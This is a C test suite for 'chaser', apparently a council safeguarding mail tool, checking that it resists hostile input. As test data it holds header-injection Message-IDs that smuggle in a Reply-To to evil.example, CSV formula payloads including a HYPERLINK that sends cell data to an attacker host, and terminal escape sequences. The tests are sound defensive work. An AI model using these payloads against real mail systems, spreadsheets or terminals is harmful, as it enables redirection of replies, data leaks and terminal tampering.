/* Hostile input: what a stranger's mail, a careless CSV or a mistyped date can make chaser do.
 * Every test drives the real binary (tests/support/harness.h) and looks at what a user sees:
 * the .eml files chaser wrote into spool/outgoing, the registers it prints, what reaches the
 * terminal, what purge leaves behind.
 */
#include <gmime/gmime.h>
#include <sqlite3.h>
#include <string.h>

#include "support/harness.h"

#include "report/report_table.h"

#define T_REPLY "2026-11-24T09:10"

/* ---- header injection ------------------------------------------------------------------ */

/* Every header line chaser writes on its mail, and no other. */
static const char *const our_headers[] = {
	"From", "To", "Reply-To", "Subject", "Date", "Message-Id", "In-Reply-To", "References",
	"Auto-Submitted", "X-Auto-Response-Suppress", "X-Chaser-Outbox", "MIME-Version",
	"Content-Type", "Content-Transfer-Encoding", NULL,
};

/* The header block of a mail file: every line is one of ours (or a fold of one), each
 * appears at most once, the block ends at the first empty line, and GMime reads the whole
 * file back as a single text/plain part. Returns the In-Reply-To value, or NULL. */
static char *assert_only_our_headers(const char *path)
{
	g_autofree char *text = NULL;
	gsize len;
	g_assert_true(g_file_get_contents(path, &text, &len, NULL));
	const char *end = strstr(text, "\r\n\r\n");
	g_assert_nonnull(end);
	g_autofree char *head = g_strndup(text, (gsize)(end - text));
	/* No bare CR or LF anywhere in the head: each line ends CR LF. */
	for (const char *p = head; *p; p++) {
		if (*p == '\r')
			g_assert_cmpint(p[1], ==, '\n');
		if (*p == '\n')
			g_assert_true(p > head && p[-1] == '\r');
	}
	g_auto(GStrv) lines = g_strsplit(head, "\r\n", -1);
	g_autoptr(GHashTable) seen = g_hash_table_new(g_str_hash, g_str_equal);
	for (guint i = 0; lines[i]; i++) {
		if (lines[i][0] == ' ' || lines[i][0] == '\t') {
			g_assert_cmpuint(i, >, 0); /* a fold continues a line of ours */
			continue;
		}
		const char *colon = strchr(lines[i], ':');
		if (!colon)
			g_error("%s: header line without a name: %s", path, lines[i]);
		g_autofree char *name = g_strndup(lines[i], (gsize)(colon - lines[i]));
		const char *ours = NULL;
		for (guint k = 0; our_headers[k]; k++)
			if (!g_ascii_strcasecmp(our_headers[k], name))
				ours = our_headers[k];
		if (!ours)
			g_error("%s: a header chaser did not write: %s", path, lines[i]);
		if (g_hash_table_contains(seen, ours))
			g_error("%s: %s written twice", path, ours);
		g_hash_table_add(seen, (gpointer)ours);
	}
	g_autofree char *reply_to = h_header(path, "Reply-To");
	if (reply_to)
		g_assert_null(strstr(reply_to, "evil"));

	GMimeStream *s = g_mime_stream_mem_new_with_buffer(text, len);
	GMimeParser *p = g_mime_parser_new_with_stream(s);
	GMimeMessage *m = g_mime_parser_construct_message(p, NULL);
	g_assert_nonnull(m);
	GMimeObject *part = g_mime_message_get_mime_part(m);
	g_assert_true(GMIME_IS_TEXT_PART(part));
	g_assert_true(g_mime_content_type_is_type(g_mime_object_get_content_type(part), "text",
	                                          "plain"));
	g_object_unref(m), g_object_unref(p), g_object_unref(s);
	return h_header(path, "In-Reply-To");
}

/* An In-Reply-To we write holds one plain msg-id: <dot-atom@dot-atom>. */
static void assert_plain_msgid(const char *value)
{
	g_assert_true(g_regex_match_simple("^<[A-Za-z0-9!#$%&'*+/=?^_`{|}~.-]+@[A-Za-z0-9.-]+>$",
	                                   value, 0, 0));
	g_assert_null(strstr(value, "=?"));
	g_assert_cmpuint(strlen(value), <=, 252);
}

typedef struct {
	const char *name;
	const char *headers;  /* the reply's id headers, as they arrive */
	const char *expect_irt; /* the In-Reply-To of the answer, NULL when it must be absent */
} IdRow;

#define B64_BODY "eA0KQ29udGVudC1UeXBlOiB0ZXh0L2h0bWwNCg0KPGI+ZXZpbDwvYj4="
static const IdRow id_rows[] = {
	{ "encoded-crlf-reply-to",
	  "Message-ID: <=?utf-8?q?x=0D=0AReply-To=3A=20attacker=40evil=2Eexample?=@x.example>\r\n",
	  NULL },
	/* "x\r\nContent-Type: text/html\r\n\r\n<b>evil</b>": a second body. */
	{ "encoded-content-type-and-body", "Message-ID: <=?utf-8?b?" B64_BODY "?=@x.example>\r\n",
	  NULL },
	{ "raw-cr-in-id", "Message-ID: <a\rReply-To: attacker@evil.example@x.example>\r\n", NULL },
	{ "folded-line-in-id", "Message-ID: <a\r\n Reply-To: attacker@evil.example@x.example>\r\n",
	  NULL },
	{ "very-long-id", NULL, NULL }, /* filled in by the test: 5000 characters */
	{ "id-with-spaces", "Message-ID: <a b c@x.example>\r\n", NULL },
	{ "poisoned-references",
	  "Message-ID: <plain.1@mail.example.org>\r\n"
	  "References: <first@mail.example.org> "
	  "<=?utf-8?q?x=0D=0AReply-To=3A=20attacker=40evil=2Eexample?=@x.example>\r\n",
	  "<plain.1@mail.example.org>" },
	{ "plain-id-threads", "Message-ID: <CAF+x.y_z=1@mail.example.org>\r\n",
	  "<CAF+x.y_z=1@mail.example.org>" },
};

/* The chair answers the list with a line chaser cannot act on; the answer (not_understood)
 * goes back to the chair from the council's mailbox, threaded under the chair's mail. */
static void test_hostile_message_id(gconstpointer data)
{
	const IdRow *row = data;
	g_autoptr(Harness) h = h_new(NULL);
	h_story_setup(h);
	g_autofree char *list = h_mail(h, "distribution_list", H_CHAIR);
	g_autofree char *token = h_token(list);
	g_autofree char *subject = h_header(list, "Subject");
	g_autofree char *ids = NULL;
	if (row->headers) {
		ids = g_strdup(row->headers);
	} else {
		g_autofree char *local = g_strnfill(5000, 'a');
		ids = g_strdup_printf("Message-ID: <%s@x.example>\r\n", local);
	}
	g_autofree char *mail = g_strdup_printf(
		"From: Dr Ffion Testwood <%s>\r\n"
		"To: Safeguarding <safeguarding+%s@council.example>\r\n"
		"Subject: RE: %s\r\n%s"
		"Date: Tue, 24 Nov 2026 09:00:00 +0000\r\n\r\n"
		"ESCALATE 9 no_report: nobody on line nine\r\n",
		H_CHAIR, token, subject, ids);
	h_deliver(h, "hostile", mail);
	g_assert_cmpint(h_run(h, T_REPLY, "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, T_REPLY, "flush", NULL), ==, 0);

	/* The chair got the answer, and nobody else got anything. */
	g_autofree char *answer = h_mail(h, "not_understood", H_CHAIR);
	g_assert_nonnull(answer);
	g_autoptr(GPtrArray) all = h_outgoing(h);
	for (guint i = 0; i < all->len; i++) {
		g_autofree char *irt = assert_only_our_headers(all->pdata[i]);
		if (irt)
			assert_plain_msgid(irt);
		g_autofree char *to = h_header(all->pdata[i], "To");
		g_assert_null(strstr(to, "evil"));
	}
	g_autofree char *irt = h_header(answer, "In-Reply-To");
	g_assert_cmpstr(irt, ==, row->expect_irt);
	g_autofree char *refs = h_header(answer, "References");
	g_assert_cmpstr(refs, ==, row->expect_irt);
	/* One body: the text chaser wrote, with no second part after it. */
	g_autofree char *body = h_body(answer);
	g_assert_nonnull(strstr(body, "nothing has been changed"));
	g_assert_null(strstr(body, "Content-Type"));
	g_assert_null(strstr(body, "evil"));
}

/* ---- CSV registers ----------------------------------------------------------------------- */

/* A field as a spreadsheet reads it: unquoted, '""' made '"'. */
static GPtrArray *csv_fields(const char *csv)
{
	GPtrArray *out = g_ptr_array_new_with_free_func(g_free);
	GString *f = g_string_new(NULL);
	gboolean quoted = FALSE;
	for (const char *p = csv; *p; p++) {
		if (quoted) {
			if (*p == '"' && p[1] == '"')
				g_string_append_c(f, '"'), p++;
			else if (*p == '"')
				quoted = FALSE;
			else
				g_string_append_c(f, *p);
		} else if (*p == '"') {
			quoted = TRUE;
		} else if (*p == ',' || *p == '\n') {
			g_ptr_array_add(out, g_strdup(f->str));
			g_string_truncate(f, 0);
		} else if (*p != '\r') {
			g_string_append_c(f, *p);
		}
	}
	g_ptr_array_add(out, g_string_free(f, FALSE));
	return out;
}

static void test_register_csv_runs_no_formula(void)
{
	g_autoptr(Harness) h = h_new(NULL);
	h_story_setup(h);
	h_reply_to(h, "chair", "distribution_list", H_CHAIR, H_CHAIR,
	           "AUTHORISED\nESCALATE 1 no_report: +1 more\nESCALATE 2 no_apologies: @SUM(A1)\n");
	g_assert_cmpint(h_run(h, T_REPLY, "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, T_REPLY, "flush", NULL), ==, 0);
	h_reply_to(h, "slo", "escalation", H_POLICE_SLO, H_POLICE_SLO,
	           "RESOLVED: =HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "report", "--from", "2026-11-01", "--to",
	                      "2026-12-31", "--kind", "register", "--format", "csv", NULL), ==, 0);
	g_autoptr(GPtrArray) fields = csv_fields(h->out);
	gboolean outcome = FALSE, plus = FALSE, at = FALSE;
	for (guint i = 0; i < fields->len; i++) {
		const char *f = fields->pdata[i];
		/* No field a spreadsheet would run. */
		if (*f && strchr("=+@\t\r", *f))
			g_error("a field that runs as a formula: %s", f);
		if (*f == '-')
			g_assert_true(g_regex_match_simple("^-[0-9]+(\\.[0-9]+)?$", f, 0, 0) ||
			              !strcmp(f, "-"));
		outcome |= !strcmp(f, "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
		plus |= !strcmp(f, "'+1 more");
		at |= !strcmp(f, "'@SUM(A1)");
	}
	g_assert_true(outcome && plus && at);
	/* The text view shows the words as they were written. */
	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "report", "--from", "2026-11-01", "--to",
	                      "2026-12-31", "--kind", "register", NULL), ==, 0);
	g_assert_nonnull(strstr(h->out, "+1 more"));
	g_assert_null(strstr(h->out, "'+1 more"));
}

/* What is and is not neutralised: text from anyone is; numbers chaser computed are not. */
static void test_csv_neutral_rules(void)
{
	static const char *const rows[][2] = {
		{ "=1+1", "'=1+1" }, { "+1 more", "'+1 more" }, { "@SUM(A1)", "'@SUM(A1)" },
		{ "-3+A1", "'-3+A1" }, { "\t=1", "'\t=1" }, { "\r=1", "'\r=1" },
		{ "-", "-" }, { "-3", "-3" }, { "-2.5", "-2.5" }, { "12", "12" },
		{ "Northshire Police", "Northshire Police" }, { "", "" },
	};
	for (guint i = 0; i < G_N_ELEMENTS(rows); i++) {
		g_autofree char *got = ch_table_csv_neutral(rows[i][0]);
		g_assert_cmpstr(got, ==, rows[i][1]);
	}
}

/* ---- dates ----------------------------------------------------------------------------- */

/* A date outside 1900-2100 is refused where it comes in: a conference "held" in year 1 once
 * made `list send` step through two thousand years of working days, for ever. */
static void test_dates_out_of_range_refused(void)
{
	g_autoptr(Harness) h = h_new(NULL);
	const char *t = "2026-11-23T09:30";
	static const char *const held[] = { "0001-01-01T00:00", "1899-12-31T23:59", "2101-01-01",
	                                    "9999-12-31T10:00" };
	for (guint i = 0; i < G_N_ELEMENTS(held); i++) {
		g_assert_cmpint(h_run(h, t, "conference", "add", "CP-2026-0099", "--held", held[i],
		                      "--chair", H_CHAIR, "--social-worker", "sw@council.example",
		                      NULL), ==, 2);
		g_assert_nonnull(strstr(h->err, "--held"));
	}
	g_assert_cmpint(h_run(h, t, "show", "CP-2026-0099", NULL), !=, 0);
	/* Years at the edges are still dates. */
	g_assert_cmpint(h_run(h, t, "conference", "add", "CP-1900-0001", "--held",
	                      "1900-01-01T10:00", "--chair", H_CHAIR, "--social-worker",
	                      "sw@council.example", NULL), ==, 0);
	/* --now, report and purge dates too. */
	g_assert_cmpint(h_run(h, "0001-01-01T00:00", "show", "CP-1900-0001", NULL), ==, 2);
	g_assert_nonnull(strstr(h->err, "--now"));
	g_assert_cmpint(h_run(h, t, "report", "--from", "0001-01-01", "--to", "2026-12-31", NULL),
	                ==, 2);
	g_assert_nonnull(strstr(h->err, "--from"));
	g_assert_cmpint(h_run(h, t, "report", "--from", "2026-01-01", "--to", "2101-01-01", NULL),
	                ==, 2);
	g_assert_nonnull(strstr(h->err, "--to"));
	g_assert_cmpint(h_run(h, t, "purge", "--before", "0001-01-01", "--dry-run", NULL), ==, 2);
	g_assert_nonnull(strstr(h->err, "--before"));
}

/* ---- the terminal ------------------------------------------------------------------------ */

#define ESC_TEXT "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m\xc2\x9b" "6n\xe2\x80\xae"

/* What a terminal would obey: ESC, BEL, C1 controls (8-bit CSI here), a bidi override. */
static void assert_terminal_safe(const char *what, const char *out)
{
	if (strchr(out, '\x1b') || strchr(out, '\x07') || strstr(out, "\xc2\x9b") ||
	    strstr(out, "\xe2\x80\xae"))
		g_error("%s printed a control sequence:\n%s", what, out);
	g_assert_true(g_utf8_validate(out, -1, NULL));
}

static void test_terminal_gets_no_control_sequences(void)
{
	g_autoptr(Harness) h = h_new(NULL);
	h_story_setup(h);
	h_reply_to(h, "chair", "distribution_list", H_CHAIR, H_CHAIR,
	           "AUTHORISED\nESCALATE 1 no_report: comment " ESC_TEXT "\n");
	g_assert_cmpint(h_run(h, T_REPLY, "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, T_REPLY, "flush", NULL), ==, 0);
	h_reply_to(h, "slo", "escalation", H_POLICE_SLO, H_POLICE_SLO,
	           "NOT RESOLVED: outcome " ESC_TEXT);
	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "poll", NULL), ==, 0);
	/* A stranger whose address and words land in triage, and an answer to a sender whose
	 * address carries an escape. */
	h_deliver(h, "stranger",
	          "From: \"\x1b]0;x\x07\" <pat.doe@elsewhere.example.com>\n"
	          "Subject: hello " ESC_TEXT "\n\nhello " ESC_TEXT "\n");
	g_assert_cmpint(h_run(h, "2026-11-25T10:05", "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, "2026-11-25T10:05", "flush", NULL), ==, 0);

	const char *const commands[][4] = {
		{ "show", H_REF, NULL }, { "escalations", NULL }, { "outbox", NULL },
		{ "triage", "--all", NULL }, { "record", H_REF, NULL },
		{ "report", "--from", "2026-11-01", NULL },
	};
	for (guint i = 0; i < G_N_ELEMENTS(commands); i++) {
		if (!strcmp(commands[i][0], "report"))
			g_assert_cmpint(h_run(h, "2026-11-25T11:00", "report", "--from", "2026-11-01",
			                      "--to", "2026-12-31", "--kind", "register", NULL), ==, 0);
		else
			g_assert_cmpint(h_run(h, "2026-11-25T11:00", commands[i][0], commands[i][1],
			                      commands[i][2], NULL), ==, 0);
		assert_terminal_safe(commands[i][0], h->out);
	}
	/* The words are shown, with the controls replaced where they stood. */
	g_assert_cmpint(h_run(h, "2026-11-25T11:00", "show", H_REF, NULL), ==, 0);
	g_assert_nonnull(strstr(h->out, "comment \xef\xbf\xbd]0;owned\xef\xbf\xbd"));
	g_assert_nonnull(strstr(h->out, "red"));
	g_assert_cmpint(h_run(h, "2026-11-25T11:00", "escalations", NULL), ==, 0);
	g_assert_nonnull(strstr(h->out, "comment \xef\xbf\xbd"));
	/* --json keeps the text exactly, escaped as JSON does. */
	g_autoptr(JsonNode) show = h_json(h, "2026-11-25T11:00", "show", H_REF, NULL);
	g_autofree char *json = json_to_string(show, FALSE);
	g_assert_null(strchr(json, '\x1b'));
}

/* ---- purge ------------------------------------------------------------------------------- */

static guint triage_items(Harness *h)
{
	g_autoptr(JsonNode) n = h_json(h, NULL, "triage", "--all", NULL);
	return json_array_get_length(json_node_get_array(n));
}

static guint files_under(Harness *h, const char *sub)
{
	g_autofree char *dir = g_build_filename(h->dir, "spool", sub, NULL);
	GDir *d = g_dir_open(dir, 0, NULL);
	guint n = 0;
	while (d && g_dir_read_name(d))
		n++;
	if (d)
		g_dir_close(d);
	return n;
}

/* Mail that matched no conference goes by age like a case does: received before the
 * cut-off, with its triage row, admin's alert and its raw file; newer mail stays. */
static void test_purge_takes_unmatched_triage_by_age(void)
{
	g_autoptr(Harness) h = h_new(NULL);
	h_deliver(h, "old-stranger",
	          "From: pat.doe@elsewhere.example.com\nSubject: hello\nMessage-ID: <s1@x.example>\n"
	          "\nAUTHORISED\n");
	g_assert_cmpint(h_run(h, "2026-01-10T10:00", "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, "2026-01-10T10:00", "flush", NULL), ==, 0);
	h_deliver(h, "dropped-stranger",
	          "From: sam.roe@elsewhere.example.com\nSubject: hi\nMessage-ID: <s2@x.example>\n"
	          "\nplease call me\n");
	g_assert_cmpint(h_run(h, "2026-01-11T10:00", "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, "2026-01-11T10:00", "triage", "drop", "2", NULL), ==, 0);
	h_deliver(h, "new-stranger",
	          "From: lee.poe@elsewhere.example.com\nSubject: hey\nMessage-ID: <s3@x.example>\n"
	          "\nhello\n");
	g_assert_cmpint(h_run(h, "2026-11-24T10:00", "poll", NULL), ==, 0);
	g_assert_cmpint(h_run(h, "2026-11-24T10:00", "flush", NULL), ==, 0);
	g_assert_cmpuint(triage_items(h), ==, 3);
	guint raw_before = files_under(h, "messages");
	guint alerts_before = h_count_mail(h, "triage_alert", NULL);

	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "purge", "--before", "2026-06-01",
	                      "--dry-run", NULL), ==, 0);
	g_assert_nonnull(strstr(h->out, "2 triage items"));
	g_assert_nonnull(strstr(h->out, "2 inbound messages"));
	g_assert_cmpuint(triage_items(h), ==, 3);

	g_assert_cmpint(h_run(h, "2026-11-25T10:00", "purge", "--before", "2026-06-01", NULL), ==, 0);
	g_assert_nonnull(strstr(h->out, "2 triage items"));
	/* What is left: the new stranger only, its raw file and its alert. */
	g_autoptr(JsonNode) left = h_json(h, NULL, "triage", "--all", NULL);
	JsonArray *a = json_node_get_array(left);
	g_assert_cmpuint(json_array_get_length(a), ==, 1);
	g_assert_cmpstr(h_str(json_array_get_object_element(a, 0), "from"), ==,
	                "lee.poe@elsewhere.example.com");
	g_assert_cmpuint(files_under(h, "messages"), ==, raw_before - 2);
	g_assert_cmpuint(alerts_before, ==, 3);
	g_assert_cmpuint(h_count_mail(h, "triage_alert", NULL), ==, 1);
	/* reconcile, run by h_free, finds nothing dropped. */
}

/* ---- main -------------------------------------------------------------------------------- */

int main(int argc, char **argv)
{
	g_test_init(&argc, &argv, NULL);
	g_mime_init();
	for (guint i = 0; i < G_N_ELEMENTS(id_rows); i++) {
		g_autofree char *name = g_strdup_printf("/hostile/headers/%s", id_rows[i].name);
		g_test_add_data_func(name, &id_rows[i], test_hostile_message_id);
	}
	g_test_add_func("/hostile/csv/register-runs-no-formula", test_register_csv_runs_no_formula);
	g_test_add_func("/hostile/csv/neutral-rules", test_csv_neutral_rules);
	g_test_add_func("/hostile/input/dates-out-of-range-refused", test_dates_out_of_range_refused);
	g_test_add_func("/hostile/input/terminal-gets-no-control-sequences",
	                test_terminal_gets_no_control_sequences);
	g_test_add_func("/hostile/input/purge-takes-unmatched-triage-by-age",
	                test_purge_takes_unmatched_triage_by_age);
	return g_test_run();
}
